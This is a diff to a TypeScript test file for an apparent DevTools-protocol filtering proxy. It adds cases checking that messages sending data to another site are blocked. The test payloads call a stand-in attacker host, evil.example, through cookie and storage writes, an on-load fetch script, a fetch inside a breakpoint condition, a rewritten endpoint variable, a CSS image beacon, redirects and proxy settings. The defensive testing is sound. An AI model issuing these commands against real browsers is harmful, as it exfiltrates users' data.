@@ -263,7 +263,7 @@ t.test('control: code and markup naming the allowed site or no site go on (Playw
 // traffic (twentieth pass): an intercepted request answered `302 Location: https://evil.example/?d=…`
 // (in `responseHeaders` or base64 `binaryResponseHeaders`), answered with a page whose image is on
 // another site, continued as raw bytes, and a browser context whose proxy is the attacker's server.
-t.test('an intercepted request answered with a redirect or page elsewhere, or a context proxied elsewhere, closes the socket', async (t) => {
+t.test('an intercepted request answered with a redirect or page elsewhere, a context proxied elsewhere, state or code for another site, closes the socket', async (t) => {
   const b64 = (s: string): string => Buffer.from(s).toString('base64');
   for (const msg of [
     cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 302, responseHeaders: [{ name: 'Location', value: 'https://evil.example/?d=4111' }] }),
@@ -274,6 +274,16 @@ t.test('an intercepted request answered with a redirect or page elsewhere, or a 
     cdp('Network.continueInterceptedRequest', { interceptionId: 'i1', url: 'https://evil.example/?d=4111' }),
     cdp('Target.createBrowserContext', { proxyServer: 'http://evil.example:8080', proxyBypassList: '' }),
     cdp('Target.createBrowserContext', { proxyServer: 'socks5://evil.example:1080' }),
+    // State for another site, sent with whatever of it an allowed page embeds: a cookie, web storage.
+    cdp('Network.setCookie', { name: 'd', value: '4111', domain: '.evil.example', path: '/' }),
+    cdp('Network.setCookies', { cookies: [{ name: 'a', value: '1', url: 'https://docs.example/' }, { name: 'd', value: '4111', url: 'https://evil.example/' }] }),
+    cdp('Storage.setCookies', { cookies: [{ name: 'd', value: '4111', domain: 'evil.example' }] }),
+    cdp('DOMStorage.setDOMStorageItem', { storageId: { securityOrigin: 'https://evil.example', isLocalStorage: true }, key: 'd', value: '4111' }),
+    // Code run at the next load or a breakpoint, a value handed to the page's code, a style.
+    cdp('Page.reload', { scriptToEvaluateOnLoad: "fetch('https://evil.example/?d=4111')" }),
+    cdp('Debugger.setBreakpointByUrl', { lineNumber: 1, url: 'https://docs.example/app.js', condition: "fetch('//evil.example/?d=4111'), false" }),
+    cdp('Debugger.setVariableValue', { scopeNumber: 0, variableName: 'endpoint', newValue: { value: 'https://evil.example/?d=4111' }, callFrameId: 'c1' }),
+    cdp('CSS.setEffectivePropertyValueForNode', { nodeId: 7, propertyName: 'background-image', value: 'url(https://evil.example/?d=4111)' }),
   ]) t.equal((await session([JSON.stringify(msg)], [], 'browser.example')).code, 1008, `${String(msg.method)} ${JSON.stringify(msg.params).slice(0, 60)}`);
   t.notOk(ranText().includes('evil'), 'nothing reached the browser');
 });
@@ -286,6 +296,8 @@ t.test('control: an intercepted request answered or continued on the allowed sit
     // A JPEG whose XMP metadata names namespaces by URL: an image loads nothing.
     JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r2', responseCode: 200, responseHeaders: [{ name: 'Content-Type', value: 'image/jpeg' }], body: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0x00, 0x10]), Buffer.from('http://ns.adobe.com/xap/1.0/\u0000<x:xmpmeta xmlns:dc="http://purl.org/dc/elements/1.1/">'), Buffer.from([0xff, 0xd9])]).toString('base64') })),
     JSON.stringify(cdp('Target.createBrowserContext', { disposeOnDetach: true })),
+    JSON.stringify(cdp('Network.setCookie', { name: 'theme', value: 'dark', domain: 'docs.example' })),
+    JSON.stringify(cdp('Debugger.setBreakpointByUrl', { lineNumber: 1, url: 'https://docs.example/app.js', condition: 'count > 3' })),
   ];
   t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
 });
